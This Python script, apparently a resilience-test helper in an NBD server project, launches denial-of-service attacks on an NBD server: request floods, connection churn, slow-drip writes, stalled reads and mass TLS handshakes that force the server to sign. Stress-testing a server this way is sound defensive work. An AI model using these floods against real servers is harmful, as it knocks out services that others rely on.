#!/usr/bin/env python3
"""Attacks an NBD server until it is killed: attack.py NAME ADDRESS EXPORT SPAN.

ADDRESS is the path of a Unix socket or HOST:PORT. The attack uses only the upper half of the SPAN bytes.
The program prints "ready" when the attack has started.
"""

import os
import socket
import ssl
import struct
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "integration"))
import wire  # noqa: E402: its folder is added to the path above

KIB, MIB = 1 << 10, 1 << 20


def requests(command, offsets, length, flags=0):
    return b"".join(wire.encode_request(command, offset, length, flags, cookie=n)
                    for n, offset in enumerate(offsets))


class Target:
    def __init__(self, address, name, span):
        self.address, self.name = address, name
        self.middle, self.end = span // 2, span

    def connect(self, structured=True):
        for left in reversed(range(100)):
            try:
                return wire.connect(self.address, self.name, structured=structured, contexts=())
            except (ConnectionRefusedError, BlockingIOError):  # the server's listen queue is full
                if not left:
                    raise
                time.sleep(0.01)

    def offsets(self, count, step):
        return [self.middle + n * step % (self.end - self.middle) for n in range(count)]


def repeat(action):
    """Repeats the action on a thread of its own. The server may close the connections."""
    def run():
        while True:
            try:
                action()
            except (OSError, wire.Closed):
                pass

    threading.Thread(target=run, daemon=True).start()


def drain(client):
    """Receives and discards replies."""
    buffer = bytearray(MIB)
    try:
        while client.socket.recv_into(buffer):
            pass
    except OSError:
        pass


def flood(target, clients, block, structured=True):
    """Each client sends the block repeatedly, as fast as the server accepts it."""
    def send(client):
        try:
            while True:
                client.socket.sendall(block)
        except OSError:
            pass

    for _ in range(clients):
        client = target.connect(structured)
        client.socket.settimeout(None)
        for body in (send, drain):
            threading.Thread(target=body, args=(client,), daemon=True).start()


def zeroes(target):
    half = target.end - target.middle
    flood(target, 4, requests(wire.WRITE_ZEROES, [target.middle] * 64, half, wire.NO_HOLE))


def trims(target):
    half = target.end - target.middle
    flood(target, 4, requests(wire.TRIM, [target.middle] * 64, half))


def holes(target):
    with target.connect() as client:
        client.trim(target.middle, target.end - target.middle)
    flood(target, 16, requests(wire.READ, target.offsets(32, 64 * KIB), 4 * KIB))


def flush(target):
    flood(target, 16, requests(wire.FLUSH, [0] * 1024, 0))


def greedy(target):
    flood(target, 4, requests(wire.READ, target.offsets(32, 64 * KIB), 4 * KIB), False)


def disconnect(target):
    block = requests(wire.READ, target.offsets(60_000, 1), 1)

    def connect_and_leave():
        with target.connect() as client:
            client.socket.settimeout(1)
            client.socket.sendall(block)

    repeat(connect_and_leave)


def trickle(target):
    clients = [target.connect() for _ in range(16)]
    for client in clients:
        client.send(requests(wire.WRITE, [target.middle], MIB))

    def drip():
        while True:
            for client in clients:
                try:
                    client.socket.send(b"t")
                except OSError:
                    pass  # the server closed this connection because it is slow
            time.sleep(1)

    threading.Thread(target=drip, daemon=True).start()


def stalled(target):
    global kept
    kept = [target.connect() for _ in range(40)]
    for client in kept:
        client.send(requests(wire.READ, [target.middle] * 8, 32 * MIB))


def handshakes(target):
    """64 TLS handshakes at a time, each up to the server's signature. The client never checks the signature."""
    hello = ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        hello = hello.read()

    def all_at_once():
        clients = [wire.Wire(target.address, 5) for _ in range(64)]
        for client in clients:
            client.greet()
            client.option(wire.STARTTLS)
        for client in clients:
            client.option_reply(wire.STARTTLS)
        for client in clients:
            client.send(hello)
        for client in clients:
            client.receive(1)
            client.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            client.close()

    repeat(all_at_once)


kept = []
ATTACKS = {each.__name__: each for each in (zeroes, trims, holes, flush, disconnect, trickle,
                                            stalled, greedy)}
IN_TLS = {each.__name__: each for each in (handshakes,)}


def main():
    name, address, export, span = sys.argv[1:]
    if not address.startswith("/"):
        host, port = address.rsplit(":", 1)
        address = (host, int(port))
    {**ATTACKS, **IN_TLS}[name](Target(address, export, int(span)))
    time.sleep(0.3)
    print("ready", flush=True)
    parent = os.getppid()
    while os.getppid() == parent:
        time.sleep(1)


if __name__ == "__main__":
    main()
